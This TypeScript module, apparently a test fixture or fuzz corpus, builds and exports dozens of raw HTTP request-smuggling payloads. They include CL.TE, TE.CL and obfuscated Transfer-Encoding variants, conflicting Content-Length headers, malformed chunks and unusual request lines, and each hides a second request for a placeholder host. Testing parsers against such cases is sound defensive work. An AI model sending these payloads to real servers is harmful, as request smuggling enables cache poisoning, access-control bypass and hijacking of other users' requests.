/** Ways to send one request that a careless reader takes for two. `<OWN>` stands for a number of each case's own. */
const route = '/public/v1/mirror/campaign/<OWN>/mirror';
const hidden = `GET ${route}?hidden HTTP/1.1\r\nHost: mirror.example.com\r\nX-Hidden: `;
const asChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;

function post(lines: readonly string[], body: string, start = `POST ${route} HTTP/1.1`): string {
  return [start, 'Host: mirror.example.com', 'Content-Type: application/json', ...lines, '', body].join(
    '\r\n',
  );
}

const chunked = 'Transfer-Encoding: chunked';
/** Read by its length it is one, by its chunks another one follows; or the other way round. */
const lengthFirst = (coding: string | readonly string[]) =>
  post([...[coding].flat(), `Content-Length: ${5 + hidden.length}`], `0\r\n\r\n${hidden}`);
const chunksFirst = (coding: string | readonly string[]) => {
  const body = asChunk(`${hidden}\r\n\r\n`);
  return post([`Content-Length: ${body.indexOf('\r\n') + 2}`, ...[coding].flat()], body);
};
const inChunks = (body: string) => post([chunked], body);

/** Spellings of the coding that some readers understand and others do not (TE.TE). */
const codings: Readonly<Record<string, string | readonly string[]>> = {
  'as it is': chunked,
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a vertical tabulator before it': 'Transfer-Encoding:\x0bchunked',
  folded: 'Transfer-Encoding:\r\n chunked',
  'behind a folded line': 'X: a\r\n Transfer-Encoding: chunked',
  'behind a bare line feed': 'X: a\nTransfer-Encoding: chunked',
  'in two lines': [chunked, chunked],
  'an underscore': 'Transfer_Encoding: chunked',
  'a null behind it': 'Transfer-Encoding: chunked\0',
  'taken away by Connection': ['Connection: Transfer-Encoding', chunked],
};

const body = `${hidden}\r\n\r\n`;
const { length } = body;

/** By length alone. */
const lengths: Readonly<Record<string, readonly string[]>> = {
  'CL.0': ['Content-Length: 0'],
  'no length': [],
  'two lengths, the first one zero': ['Content-Length: 0', `Content-Length: ${length}`],
  'two lengths, the second one zero': [`Content-Length: ${length}`, 'Content-Length: 0'],
  'two equal lengths': [`Content-Length: ${length}`, `Content-Length: ${length}`],
  'a length beyond 2^64': [`Content-Length: ${2n ** 64n}`],
  'a length taken away by Connection': ['Connection: Content-Length', `Content-Length: ${length}`],
  'a length that waits for 100': ['Expect: 100-continue', `Content-Length: ${length}`],
  'an upgrade to HTTP/2': [
    'Connection: Upgrade, HTTP2-Settings',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQ',
    `Content-Length: ${length}`,
  ],
};

const one = '1\r\n{\r\n';
const chunkings: Readonly<Record<string, string>> = {
  'an extension': `1;a=b\r\n{\r\n0\r\n\r\n`,
  'an extension with a hidden chunk': `1;\nx\r\n0\r\n\r\n${body}`,
  'a size beyond 2^64': `1${'0'.repeat(16)}1\r\n{\r\n0\r\n\r\n${body}`,
  'a space behind a size': `1 \r\n{\r\n0\r\n\r\n${body}`,
  'a chunk without its end': `1\r\n{0\r\n\r\n${body}`,
  'the end with line feeds': `${one}0\n\n${body}`,
  'the end without an empty line': `${one}0\r\n${body}`,
  'a trailer that frames': `${one}0\r\nContent-Length: ${length}\r\n\r\n${body}`,
};

const starts: Readonly<Record<string, string>> = {
  'HTTP/1.0 that keeps alive': `POST ${route} HTTP/1.0\r\nConnection: keep-alive`,
  'an absolute target with another host': `POST http://other.example${route} HTTP/1.1`,
  'a second request line': `POST ${route} HTTP/1.1\r\nGET ${route}?hidden HTTP/1.1`,
  'a break in the target': `POST ${route}?\x20HTTP/1.1\r\nX: y HTTP/1.1`,
  'HTTP/0.9': `GET ${route}\r\n`,
};

const named = (kind: string, all: Readonly<Record<string, string>>) =>
  Object.entries(all).map(([name, text]) => [`${kind}: ${name}`, text] as const);
const mapped = <T>(all: Readonly<Record<string, T>>, of: (one: T) => string) =>
  Object.fromEntries(Object.entries(all).map(([name, it]) => [name, of(it)]));

/** Bytes, one a character, by what they try. */
export const smuggled: readonly (readonly [name: string, bytes: string])[] = [
  ...named('CL.TE', mapped(codings, lengthFirst)),
  ...named('TE.CL', mapped(codings, chunksFirst)),
  ...named(
    'by length',
    mapped(lengths, (lines) => post(lines, body)),
  ),
  ...named('by chunks', mapped(chunkings, inChunks)),
  ...named(
    'by the start',
    mapped(starts, (start) => post([`Content-Length: ${length}`], body, start)),
  ),
].map(([name, text]) => [name, Buffer.from(text).toString('latin1')]);
